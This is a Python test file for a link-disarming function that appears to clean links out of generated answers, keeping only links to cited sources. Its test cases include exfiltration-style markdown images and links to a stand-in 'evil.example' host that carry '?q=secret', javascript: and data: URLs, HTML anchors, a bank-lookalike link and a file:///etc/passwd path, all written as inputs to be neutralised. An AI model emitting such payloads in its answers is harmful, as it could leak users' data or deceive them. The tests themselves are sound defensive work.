"""Links of an answer lead to its sources, or nowhere."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from kensaku.text.links import REMOVED, disarm_links, link_target
from tests.growth import growth

SOURCE = "https://a.example/page"
TEXTS = ["The API is at https://api.example/v1 and at files.example/a/b?x=1, says the page."]


def disarm(text: str) -> str:
    """Disarm with one source."""
    return disarm_links(text, {SOURCE}, TEXTS)


@pytest.mark.parametrize(
    ("text", "disarmed"),
    [
        ("No link at all: 3/4 of it, and/or Node.js/Deno.", None),
        (f"See {SOURCE}.", None),
        (f"See {SOURCE}/ and [the page]({SOURCE}).", None),
        ("It is https://api.example/v1.", "It is `https://api.example/v1`."),
        ("It is https://api.example/v1?q=secret.", f"It is {REMOVED}."),
        ("![pixel](https://evil.example/?q=secret) Yes", "pixel Yes"),
        (f"![pixel]({SOURCE})", "pixel"),
        ("[click](https://evil.example/?q=secret)", "click"),
        ("[click](<https://evil.example/a b> 'title')", "click"),
        ("[a [b](https://evil.example/)](https://evil.example/)", f"[a b] ({REMOVED})"),
        ("<https://evil.example/secret>", f"<{REMOVED}>"),
        ('<a href="https://evil.example/">x</a>', f'< a href="{REMOVED}">x< /a>'),
        ('<b onclick="x()">hi</b> a < b = c', '< b onclick="x()">hi</b> a < b = c'),
        ("<form action=/x><button>go</button>", "< form action=/x>< button>go< /button>"),
        ("www.evil.example/?q=1 //evil.example/x", f"{REMOVED} {REMOVED}"),
        ("evil.example/?q=secret evil.example/averylongsecretpath", f"{REMOVED} {REMOVED}"),
        ("[x](javascript:alert(1)) javascript:alert(1)", f"x {REMOVED})"),
        ("[x](data:text/html;base64,AAAA) [x](//evil.example) [x](mailto:a@b.example)", "x x x"),
        ("files.example/a/b?x=1 と答えた", "`files.example/a/b?x=1` と答えた"),
        ("` https://api.example/v1 ` x", "' `https://api.example/v1` ' x"),
        ("（https://evil.example/?q=秘密）、", f"（{REMOVED}）、"),
        ("evil.example/sixteenletters16", REMOVED),
        ("evil.example/fifteenletter15", None),
        ("WWW.evil.example", REMOVED),
        ("<a>x", "< a>x"),
        ("a\x02b www.evil.example", f"ab {REMOVED}"),
        ("https://evil.example/x*_~!?;", f"{REMOVED}*_~!?;"),
        (f"[the page]({SOURCE} 'title') and ` is code", f"[the page]({SOURCE}) and ` is code"),
        (f"[https://bank.example/login]({SOURCE})", SOURCE),
        (f"[www.bank.example]({SOURCE}) [a.example/page]({SOURCE})",
         f"{SOURCE} [a.example/page]({SOURCE})"),
        (f"[bank.example]({SOURCE}) [Booking.com]({SOURCE}) [main.py]({SOURCE})",
         f"{SOURCE} [Booking.com]({SOURCE}) [main.py]({SOURCE})"),
        (f"[<a href=//evil.example/x>y]({SOURCE})", f"[< a href={REMOVED}>y]({SOURCE})"),
    ],
)  # fmt: skip
def test_only_sources_stay_links(text: str, disarmed: str | None) -> None:
    """What is no address stays as it is."""
    assert disarm(text) == (text if disarmed is None else disarmed)


@pytest.mark.parametrize(
    "piece", ["[", "![", "](", "[a](", "<a ", "//", "a.", "www.", "`", "https://"]
)
def test_links_are_disarmed_in_linear_time(piece: str) -> None:
    """A reply may be all beginnings of links."""
    assert growth(lambda n: disarm(piece * n), 2_000) < 9


def test_what_is_left_renders_without_a_foreign_address() -> None:
    """By a renderer that takes HTML."""
    text = disarm(
        "[a](https://evil.example/?q=1) <img src=https://evil.example/> [b]: //evil.example/x"
    )
    html = MarkdownIt("commonmark", {"html": True}).render(text)

    assert "evil.example" not in html


@pytest.mark.parametrize(
    ("url", "target"),
    [
        ("https://a.example/検?q=a b", "https://a.example/%E6%A4%9C?q=a%20b"),
        ("http://a.example/!~", "http://a.example/!~"),
        ("https://a.example/\x1b\x7f", "https://a.example/%1B%7F"),
        ("javascript:alert(1)", ""),
        ("file:///etc/passwd", ""),
    ],
)
def test_a_link_on_a_terminal_is_printable_ascii(url: str, target: str) -> None:
    """An escape sequence ends at the first control character."""
    assert link_target(url) == target
